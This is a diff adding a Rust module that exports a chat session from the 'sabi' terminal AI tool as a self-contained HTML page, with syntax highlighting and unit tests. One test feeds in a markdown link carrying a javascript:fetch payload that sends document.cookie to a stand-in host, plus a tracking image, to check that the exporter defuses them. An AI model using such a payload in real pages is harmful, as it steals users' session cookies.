@@ -0,0 +1,348 @@
+//! A session as one self-contained HTML page to share
+//!
+//! `sabi share <session>` writes chat bubbles for the user and the AI, code
+//! blocks with simple keyword highlighting, and tool results as collapsible
+//! blocks. Styles are inline and nothing is loaded from elsewhere, so the
+//! file can be attached to a ticket or mailed as is.
+
+use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd, html};
+
+use crate::app::App;
+use crate::export::{self, Defuse, escape};
+use crate::message::{Message, MessageRole};
+
+/// Tool outputs up to this many lines start expanded
+const OPEN_OUTPUT_LINES: usize = 5;
+
+/// Styles of the page, light or dark with the reader's system
+const STYLE: &str = "\
+:root { color-scheme: light dark; --bg: #f6f8fa; --fg: #1f2328; --card: #fff; --line: #d0d7de; --muted: #656d76; --accent: #0969da; }
+@media (prefers-color-scheme: dark) { :root { --bg: #0d1117; --fg: #e6edf3; --card: #161b22; --line: #30363d; --muted: #8b949e; --accent: #1f6feb; } }
+body { max-width: 52rem; margin: 0 auto; padding: 1.5rem 1rem; font: 15px/1.55 system-ui, sans-serif; background: var(--bg); color: var(--fg); }
+header { border-bottom: 1px solid var(--line); margin-bottom: 1.5rem; }
+header h1 { font-size: 1.4rem; margin: 0; }
+header p { color: var(--muted); margin: 0.25rem 0 1rem; }
+.msg { display: flex; flex-direction: column; align-items: flex-start; margin: 0.9rem 0; }
+.msg.user { align-items: flex-end; }
+.bubble { max-width: 85%; padding: 0.55rem 0.95rem; border-radius: 16px; overflow-wrap: anywhere; }
+.bubble > :first-child { margin-top: 0; }
+.bubble > :last-child { margin-bottom: 0; }
+.user .bubble { background: var(--accent); color: #fff; border-bottom-right-radius: 4px; }
+.model .bubble { background: var(--card); border: 1px solid var(--line); border-bottom-left-radius: 4px; }
+.meta { font-size: 0.75rem; color: var(--muted); margin: 0.2rem 0.5rem 0; }
+.note { align-items: center; color: var(--muted); font-size: 0.85rem; }
+details.tool { width: 100%; box-sizing: border-box; background: var(--card); border: 1px solid var(--line); border-radius: 8px; }
+details.tool summary { cursor: pointer; padding: 0.4rem 0.75rem; font-size: 0.85rem; }
+details.tool pre { margin: 0; border-radius: 0 0 8px 8px; }
+.badge { font: 0.8rem ui-monospace, monospace; padding: 0.1rem 0.45rem; border-radius: 6px; background: #8250df; color: #fff; }
+.exit { font-size: 0.75rem; font-weight: 600; padding: 0.1rem 0.45rem; border-radius: 6px; color: #fff; }
+.exit.ok { background: #1a7f37; }
+.exit.fail { background: #cf222e; }
+.lines { color: var(--muted); }
+pre { background: #0d1117; color: #e6edf3; padding: 0.75rem; border-radius: 8px; overflow-x: auto; }
+code { font: 0.9em ui-monospace, monospace; }
+table { border-collapse: collapse; }
+th, td { border: 1px solid var(--line); padding: 0.25rem 0.5rem; }
+.kw { color: #ff7b72; }
+.str { color: #a5d6ff; }
+.num { color: #79c0ff; }
+.com { color: #8b949e; font-style: italic; }";
+
+/// Words highlighted in code blocks, common to the usual languages
+const KEYWORDS: &[&str] = &[
+    "as", "async", "await", "break", "case", "class", "const", "continue", "def", "do", "done",
+    "elif", "else", "enum", "esac", "except", "export", "false", "fi", "fn", "for", "from", "func",
+    "function", "if", "impl", "import", "in", "let", "loop", "match", "mut", "None", "null",
+    "package", "pub", "return", "self", "static", "struct", "then", "trait", "True", "true", "try",
+    "type", "use", "var", "while", "with", "yield",
+];
+
+/// Languages whose comments start with `#`; the others use `//`
+const HASH_COMMENTS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "shell",
+    "console",
+    "python",
+    "py",
+    "ruby",
+    "rb",
+    "yaml",
+    "yml",
+    "toml",
+    "perl",
+    "r",
+    "dockerfile",
+    "makefile",
+    "ini",
+    "conf",
+];
+
+/// The conversation as a self-contained HTML page
+pub fn share(name: &str, messages: &[Message]) -> String {
+    let shown: Vec<&Message> = messages.iter().filter(|m| !m.is_system_prompt()).collect();
+    let mut body = format!(
+        "<header>\n<h1>{}</h1>\n<p>{} messages · shared {}</p>\n</header>\n",
+        escape(name),
+        shown.len(),
+        chrono::Local::now().format("%Y-%m-%d %H:%M")
+    );
+    for msg in shown {
+        body.push_str(&message_html(msg));
+    }
+    format!(
+        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n\
+         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
+         <title>{}</title>\n<style>\n{}\n</style>\n</head>\n<body>\n{}</body>\n</html>\n",
+        escape(name),
+        STYLE,
+        body
+    )
+}
+
+/// One message: a bubble, tool blocks, or a note
+fn message_html(msg: &Message) -> String {
+    let meta = msg
+        .timing()
+        .map(|timing| format!("<div class=\"meta\">{}</div>\n", escape(&timing)))
+        .unwrap_or_default();
+    let image = if msg.image.is_some() {
+        "<p><em>[Image attached]</em></p>\n"
+    } else {
+        ""
+    };
+
+    if msg.is_tool_result() {
+        let blocks: String = msg
+            .tool_outputs()
+            .iter()
+            .map(|output| {
+                let count = output.lines.len();
+                let exit = output.exit_code.map_or(String::new(), |code| {
+                    let class = if code == 0 { "ok" } else { "fail" };
+                    format!(" <span class=\"exit {}\">exit {}</span>", class, code)
+                });
+                format!(
+                    "<details class=\"tool\"{}>\n<summary><span class=\"badge\">{}</span>{} \
+                     <span class=\"lines\">{} line{}</span></summary>\n<pre><code>{}</code></pre>\n</details>\n",
+                    if count <= OPEN_OUTPUT_LINES { " open" } else { "" },
+                    escape(if output.tool.is_empty() { "note" } else { output.tool }),
+                    exit,
+                    count,
+                    if count == 1 { "" } else { "s" },
+                    escape(&output.lines.join("\n"))
+                )
+            })
+            .collect();
+        return format!("<div class=\"msg tool\">\n{}{}</div>\n", blocks, meta);
+    }
+
+    match msg.role {
+        MessageRole::User | MessageRole::Tool => format!(
+            "<div class=\"msg user\">\n<div class=\"bubble\">{}{}</div>\n{}</div>\n",
+            markdown_html(&msg.content),
+            image,
+            meta
+        ),
+        MessageRole::Model => format!(
+            "<div class=\"msg model\">\n<div class=\"bubble\">{}{}</div>\n{}</div>\n",
+            markdown_html(&msg.content),
+            image,
+            meta
+        ),
+        MessageRole::System => match msg.content.strip_prefix("$ ") {
+            Some(command) => format!(
+                "<div class=\"msg\">\n<pre><code>{}</code></pre>\n{}</div>\n",
+                highlight("sh", &format!("$ {}", command.trim_end())),
+                meta
+            ),
+            None => format!(
+                "<div class=\"msg note\">{}</div>\n",
+                escape(msg.content.trim()).replace('\n', "<br>")
+            ),
+        },
+    }
+}
+
+/// Markdown as HTML with highlighted code blocks, defused by `export::Defuse`
+fn markdown_html(source: &str) -> String {
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let mut code: Option<(String, String)> = None;
+    let mut defuse = Defuse::default();
+    let events = Parser::new_ext(source, options).filter_map(|event| match event {
+        Event::Start(Tag::CodeBlock(kind)) => {
+            let lang = match kind {
+                CodeBlockKind::Fenced(info) => info.split_whitespace().next().unwrap_or("").into(),
+                CodeBlockKind::Indented => String::new(),
+            };
+            code = Some((lang, String::new()));
+            None
+        }
+        Event::Text(text) if code.is_some() => {
+            if let Some((_, body)) = code.as_mut() {
+                body.push_str(&text);
+            }
+            None
+        }
+        Event::End(TagEnd::CodeBlock) => {
+            let (lang, body) = code.take()?;
+            let block = format!("<pre><code>{}</code></pre>\n", highlight(&lang, &body));
+            Some(Event::Html(block.into()))
+        }
+        event => Some(defuse.event(event)),
+    });
+    let mut out = String::new();
+    html::push_html(&mut out, events);
+    out
+}
+
+/// `code` as escaped HTML with keywords, strings, numbers and comments
+/// wrapped in spans; plain text and output blocks are left alone
+fn highlight(lang: &str, code: &str) -> String {
+    let lang = lang.to_lowercase();
+    if matches!(lang.as_str(), "" | "text" | "txt" | "plain" | "output") {
+        return escape(code);
+    }
+    let hash_comments = HASH_COMMENTS.contains(&lang.as_str());
+    let chars: Vec<char> = code.chars().collect();
+    let word = |c: char| c.is_alphanumeric() || c == '_';
+    let mut out = String::new();
+    let mut i = 0;
+    while i < chars.len() {
+        let start = i;
+        let c = chars[i];
+        let class = if (hash_comments && c == '#')
+            || (!hash_comments && c == '/' && chars.get(i + 1) == Some(&'/'))
+        {
+            while i < chars.len() && chars[i] != '\n' {
+                i += 1;
+            }
+            Some("com")
+        } else if matches!(c, '"' | '\'' | '`') {
+            i += 1;
+            while i < chars.len() && chars[i] != c && chars[i] != '\n' {
+                i += if chars[i] == '\\' { 2 } else { 1 };
+            }
+            i = (i + 1).min(chars.len());
+            Some("str")
+        } else if c.is_ascii_digit() {
+            while i < chars.len() && (word(chars[i]) || chars[i] == '.') {
+                i += 1;
+            }
+            Some("num")
+        } else if word(c) {
+            while i < chars.len() && word(chars[i]) {
+                i += 1;
+            }
+            let text: String = chars[start..i].iter().collect();
+            KEYWORDS.contains(&text.as_str()).then_some("kw")
+        } else {
+            i += 1;
+            None
+        };
+        let text = escape(&chars[start..i].iter().collect::<String>());
+        match class {
+            Some(class) => out.push_str(&format!("<span class=\"{}\">{}</span>", class, text)),
+            None => out.push_str(&text),
+        }
+    }
+    out
+}
+
+/// Handle `sabi share <id|name> [path]`
+///
+/// Writes `sabi-<id>.html` in the current directory without a path, or
+/// prints the page with `-`.
+pub fn handle_share_command(args: &[String]) -> Result<(), String> {
+    let Some(session) = args.first() else {
+        println!("Share a saved session as one self-contained HTML file\n");
+        println!("Usage:");
+        println!("  sabi share <id|name> [path]    (path '-' prints the page)");
+        return Ok(());
+    };
+    let session = App::read_session(session)
+        .map_err(|e| format!("Can't read session '{}': {}", session, e))?;
+    let page = share(&session.name, &session.messages);
+    let path = match args.get(1).map(String::as_str) {
+        Some("-") => {
+            print!("{}", page);
+            return Ok(());
+        }
+        Some(path) => path.to_string(),
+        None => format!("sabi-{}.html", session.id),
+    };
+    let cwd = std::env::current_dir().unwrap_or_default();
+    let path = export::resolve_path(&cwd, &path);
+    std::fs::write(&path, page).map_err(|e| e.to_string())?;
+    eprintln!("✓ Shared '{}' as {}", session.name, path.display());
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // **Feature: Sabi-TUI, Property: Share Page**
+    #[test]
+    fn test_share_page() {
+        let mut outputs = String::from("Tool: run_cmd seq 8\nExit code: 1\nOutput:\n");
+        outputs.push_str(
+            &(1..=8)
+                .map(|i| i.to_string())
+                .collect::<Vec<_>>()
+                .join("\n"),
+        );
+        let messages = vec![
+            Message::user("count <to> 8"),
+            Message::model("Run:\n\n```sh\nexport NAME=\"hi\" # greet\n```"),
+            Message::tool(outputs),
+            Message::tool("Tool: read_file a.txt\nExit code: 0\nOutput:\nok"),
+            Message::system("$ ls"),
+        ];
+        let page = share("Counting", &messages);
+
+        assert!(page.starts_with("<!DOCTYPE html>"));
+        assert!(!page.contains("<script") && !page.contains("<link"));
+        assert!(page.contains("<h1>Counting</h1>\n<p>5 messages"));
+        let user = "<div class=\"msg user\">\n<div class=\"bubble\"><p>count &lt;to&gt; 8</p>";
+        assert!(page.contains(user));
+        assert!(page.contains("<div class=\"msg model\">"));
+        let code = "<span class=\"kw\">export</span> NAME=<span class=\"str\">&quot;hi&quot;</span> \
+                    <span class=\"com\"># greet</span>";
+        assert!(page.contains(code));
+        // Long outputs start collapsed, short ones expanded
+        let long = "<details class=\"tool\">\n<summary><span class=\"badge\">run_cmd seq 8</span> \
+                    <span class=\"exit fail\">exit 1</span> <span class=\"lines\">8 lines</span>";
+        assert!(page.contains(long));
+        let short = "<details class=\"tool\" open>\n<summary><span class=\"badge\">read_file a.txt";
+        assert!(page.contains(short));
+        assert!(page.contains("<div class=\"msg\">\n<pre><code>$ ls</code></pre>"));
+    }
+
+    #[test]
+    fn test_share_page_defuses_links_and_images() {
+        let messages = vec![Message::model(
+            "[docs](javascript:fetch('//x/'+document.cookie)) and [site](https://example.com)\n\n\
+             ![](https://tracker.example/p.gif)",
+        )];
+        let page = share("Links", &messages);
+        assert!(!page.contains("href=\"javascript"));
+        assert!(page.contains("[docs](javascript:fetch"));
+        assert!(page.contains("<a href=\"https://example.com\">site</a>"));
+        assert!(!page.contains("<img"));
+        assert!(page.contains("![](https://tracker.example/p.gif)"));
+    }
+
+    #[test]
+    fn test_highlight_plain_and_comments() {
+        assert_eq!(highlight("text", "if <x>"), "if &lt;x&gt;");
+        let rust = highlight("rust", "let n = 42; // answer");
+        let expected = "<span class=\"kw\">let</span> n = <span class=\"num\">42</span>; \
+                        <span class=\"com\">// answer</span>";
+        assert_eq!(rust, expected);
+        // `#` is not a comment outside hash-comment languages
+        assert!(!highlight("rust", "#[test]").contains("com"));
+    }
+}